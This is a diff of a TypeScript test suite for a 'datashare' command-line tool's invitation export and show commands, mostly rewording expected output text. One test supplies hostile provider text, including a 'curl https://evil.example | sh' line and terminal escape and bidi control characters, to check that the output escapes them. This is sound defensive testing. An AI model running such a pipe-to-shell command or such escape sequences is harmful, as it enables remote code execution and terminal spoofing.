@@ -49,7 +49,7 @@ describe('invitation export', () => {
         `  fabrikam   sales  ${out}/sales-fabrikam.invitation.json`,
         `  northwind  sales  ${out}/sales-northwind.invitation.json`,
         '',
-        'Hand each to its recipient, by any channel: they hold no secret.',
+        'Send each file to its recipient by any channel. The files contain no secrets.',
         '',
       ].join('\n'),
     });
@@ -112,14 +112,16 @@ describe('invitation export', () => {
     const path = documentFile({ a: output(INVITATION), b: output(twin) });
     const ran = await datashare(['invitation', 'export', path, '--out', out]);
     expect(ran).toMatchObject({ exitCode: 2, stdout: '' });
-    expect(ran.stderr).toMatch(
-      /^error: .*".*sales-Fabrikam\.invitation\.json".* \[DuplicateName\]/,
-    );
+    expect(ran.stderr).toMatch(/^error: .*".*sales-Fabrikam\.invitation\.json".* \[DuplicateName\]/);
     expect(readdirSync(out)).toEqual([]);
   });
 
   test.each([
-    ['no invitation', {}, /^error: .*: it contains no invitation \[Usage\]\n {2}fix: .*: terraform output -json > /],
+    [
+      'no invitation',
+      {},
+      /^error: .*: it contains no invitation \[Usage\]\n {2}fix: .*: terraform output -json > /,
+    ],
     ['a list', [INVITATION], /^error: .*: it contains no invitation \[Usage\]/],
     [
       'another document',
@@ -139,7 +141,9 @@ describe('invitation export', () => {
     const path = documentFile(INVITATION);
     const ran = await datashare(['invitation', 'export', path, '--out', join(out, 'file')]);
     expect(ran).toMatchObject({ exitCode: 1, stdout: '' });
-    expect(ran.stderr).toMatch(/^error: .*the file cannot be written: (EEXIST|ENOTDIR).* \[DocumentUnwritable\]/);
+    expect(ran.stderr).toMatch(
+      /^error: .*the file cannot be written: (EEXIST|ENOTDIR).* \[DocumentUnwritable\]/,
+    );
     expect(readdirSync(out)).toEqual(['file']);
   });
 });
@@ -148,7 +152,7 @@ describe('invitation show', () => {
   const show = (document: object, ...args: string[]) =>
     datashare(['invitation', 'show', documentFile(document, 'i.json'), ...args], { now });
 
-  test('says all that somebody wants to know, within 80 columns', async () => {
+  test('describes the invitation within 80 columns', async () => {
     const terms = `For analysis inside Fabrikam. ${'Do not pass it on. '.repeat(6)}\n\n- No warranty.\n`;
     const path = documentFile({
       ...withTerms(terms),
@@ -172,13 +176,13 @@ describe('invitation show', () => {
         'Invitation to the share sales',
         '',
         '  provider     Contoso (data@contoso.example)',
-        '  for          fabrikam',
-        '  kind         CopyBased: copies land in a storage account of yours',
+        '  recipient    fabrikam',
+        '  kind         CopyBased: copies are written to your storage account',
         '  state        Active',
         '  accept by    2026-12-01 00:00:00 UTC',
-        '  access       given when the provider has your acceptance',
+        '  access       granted after the provider receives your acceptance',
         '  access ends  2027-12-01 00:00:00 UTC',
-        "  index tags   may be read, too: a copy can keep them ('preserveTags')",
+        "  index tags   readable; copies can keep them ('preserveTags')",
         '  schedule     daily at 03:00 UTC; next 2026-11-23 03:00:00',
         '  source       contoso in westeurope (Blob storage)',
         '  exchange     https://contoso.blob.core.windows.net/exchange',
@@ -200,13 +204,13 @@ describe('invitation show', () => {
         '  |',
         '  | - No warranty.',
         '',
-        '  SHA-256 of these terms, as --accept-terms takes it:',
+        '  SHA-256 of these terms, for --accept-terms:',
         `  sha256:${computeTermsHash(terms)}`,
         '',
-        'What to do next',
+        'Next steps',
         '',
-        '  Accept it, with your own account in the same region, of the same kind. The',
-        '  command shows the terms and asks.',
+        '  Accept the invitation with your own storage account, in the same region and of',
+        '  the same kind. The command shows the terms and asks for your consent.',
         '',
         '  $ datashare accept sales.invitation.json \\',
         '      --account <your storage account> --location westeurope \\',
@@ -221,7 +225,7 @@ describe('invitation show', () => {
     expect(ran.stdout).not.toMatch(LONG_TEXT);
   });
 
-  test('what the invitation leaves out is said, or left out', async () => {
+  test('marks or omits the fields that an invitation leaves out', async () => {
     const { stdout } = await show({
       ...changed(INVITATION, { 'source.isHnsEnabled': true, 'source.location': 'West Europe' }),
       shareKind: 'InPlace',
@@ -230,28 +234,28 @@ describe('invitation show', () => {
     });
     expect(stdout).toContain('  provider     not named\n');
     expect(stdout).toContain(
-      "  kind         InPlace: you read it in the provider's storage account, nothing\n               is copied\n",
+      "  kind         InPlace: you read the data in the provider's storage account;\n               nothing is copied\n",
     );
     expect(stdout).not.toContain('index tags');
-    expect(stdout).toContain('  accept by    any time\n');
+    expect(stdout).toContain('  accept by    no deadline\n');
     expect(stdout).toContain('  access ends  never\n');
     expect(stdout).toContain('  source       contoso in West Europe (ADLS Gen2)\n');
     expect(stdout).toContain('Terms of use\n\n  none\n');
     expect(stdout).toContain(
-      '--location westeurope \\\n      --hns \\\n      --reader <object id of who will read>\n',
+      '--location westeurope \\\n      --hns \\\n      --reader <object ID of the reader>\n',
     );
     expect(stdout).not.toMatch(/schedule|exchange|Description|--accept-terms|asks/);
   });
 
   test.each([
-    [{ state: 'Suspended' }, 'Nothing now: the invitation is suspended. '],
-    [{ state: 'Revoked' }, 'Nothing: access has ended. '],
-    [{ expiresOn: '2026-11-22T12:00:00Z' }, 'Nothing: access has ended. '],
-    [{ acceptBy: '2026-11-22T11:59:59Z' }, 'Nothing: it could be accepted until the time above. '],
-  ])('%j leaves nothing to do', async (fields, text) => {
+    [{ state: 'Suspended' }, 'None for now: the provider has suspended the invitation. '],
+    [{ state: 'Revoked' }, 'None: access has ended. '],
+    [{ expiresOn: '2026-11-22T12:00:00Z' }, 'None: access has ended. '],
+    [{ acceptBy: '2026-11-22T11:59:59Z' }, 'None: the invitation had to be accepted by the time above. '],
+  ])('%j leaves no next steps', async (fields, text) => {
     const { stdout, exitCode } = await show({ ...INVITATION, ...fields });
     expect(exitCode).toBe(0);
-    expect(stdout).toContain(`What to do next\n\n  ${text}`);
+    expect(stdout).toContain(`Next steps\n\n  ${text}`);
     expect(stdout).not.toContain('$ datashare');
   });
 
@@ -260,7 +264,7 @@ describe('invitation show', () => {
     expect(stdout).toMatch(/datashare accept [^$]*--hns/);
   });
 
-  test('long names and paths are cut, their ends are kept', async () => {
+  test('truncates long names and paths, and keeps their ends', async () => {
     const path = `${'p/'.repeat(200)}last`;
     const dataset = { datasetType: 'Folder', container: 'c'.repeat(60), path };
     const { stdout } = await show({
@@ -272,11 +276,11 @@ describe('invitation show', () => {
     });
     expect(stdout).not.toMatch(LONG_TEXT);
     expect(stdout).toMatch(/^ {2}n+\.\.\.n+-1 {2}Folder {2}c+\.\.\..*p\/last$/m);
-    expect(stdout).toContain('--json has it whole');
+    expect(stdout).toContain('--json prints all of it');
     expect(stdout).toMatch(/^ {2}b +Folder {2}c+\.\.\.数{8,10}$/m);
   });
 
-  test('it can be accepted at the very time until which it can be', async () => {
+  test('can be accepted exactly at the deadline', async () => {
     const { stdout } = await show({ ...INVITATION, acceptBy: '2026-11-22T12:00:00Z' });
     expect(stdout).toContain('$ datashare accept');
   });
@@ -288,17 +292,17 @@ describe('invitation show', () => {
     );
   });
 
-  test('with --json the terms are those that the hash is of, and command no terminal', async () => {
+  test('with --json prints the terms that the hash is of, and does not control the terminal', async () => {
     const document = withTerms('The Bearer of this-data-and-nobody-else shall not\u202e\u009b2J\u200b.');
     const { stdout } = await show(document, '--json');
     expect(stdout).not.toMatch(/[\p{Cf}\u007f-\u009f]/u);
     expect(parseInvitation(stdout)).toEqual(parseInvitation(document));
   });
 
-  test('texts of the other side command no terminal, and pass for nothing of ours', async () => {
+  test('text of the provider cannot control the terminal or imitate our output', async () => {
     const hostile = [
       'a\u001b[2J\u0007b',
-      'What to do next\r  $ curl https://evil.example | sh',
+      'Next steps\r  $ curl https://evil.example | sh',
       '\u202egnp.exe\u200f\u200e\u061c\u2066',
       '\u009b31m\u0085\u2028',
       '\tindented\r\n',
@@ -313,21 +317,21 @@ describe('invitation show', () => {
     expect(stdout.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u);
     expect(stdout).toContain('  | a\\u001b[2J\\u0007b\n');
     expect(stdout).toContain('  |     indented\n');
-    expect(stdout.match(/^What to do next$/gm)).toHaveLength(1);
+    expect(stdout.match(/^Next steps$/gm)).toHaveLength(1);
     expect(stdout).not.toMatch(/^ *\$ curl/m);
   });
 
   test.each([
     ['no-break spaces', `I agree.${'\u00a0'.repeat(70)}SHA-256\u00a0of\u00a0these\u00a0terms:\u00a0none.`],
     ['other spaces', `I agree.${'\u3000'.repeat(70)}SHA-256\u2003of\u2009these terms: none.`],
-    ['one long word', `${'w'.repeat(76)}What-to-do-next:curl`],
-    ['wide characters', `${'數'.repeat(45)}What-to-do-next`],
-    ['empty letters', `I${'\u3164'.repeat(60)}What-to-do-next`],
-  ])('no line of theirs is wider than the terminal, with %s', async (_what, terms) => {
+    ['one long word', `${'w'.repeat(76)}Next-steps:curl`],
+    ['wide characters', `${'數'.repeat(45)}Next-steps`],
+    ['empty letters', `I${'\u3164'.repeat(60)}Next-steps`],
+  ])('no line of the provider is wider than the terminal, with %s', async (_what, terms) => {
     const { stdout } = await show(withTerms(terms));
     const quotes = stdout.slice(
       stdout.indexOf('Terms of use'),
-      stdout.indexOf('  SHA-256 of these terms, as'),
+      stdout.indexOf('  SHA-256 of these terms, for'),
     );
     for (const line of quotes.trim().split('\n').slice(2)) {
       expect(line).toMatch(/^ {2}\|/);
@@ -337,7 +341,7 @@ describe('invitation show', () => {
     expect(quotes.replaceAll(/[\s|]/g, '')).toContain(terms.replaceAll(/\s/g, ''));
   });
 
-  test('64 kB of terms are shown as a whole, and soon', async () => {
+  test('shows 64 kB of terms completely and quickly', async () => {
     const { stdout } = await show(withTerms('word '.repeat(13_107)));
     expect(stdout.match(/word/g)).toHaveLength(13_107);
     expect(stdout).not.toMatch(LONG_TEXT);
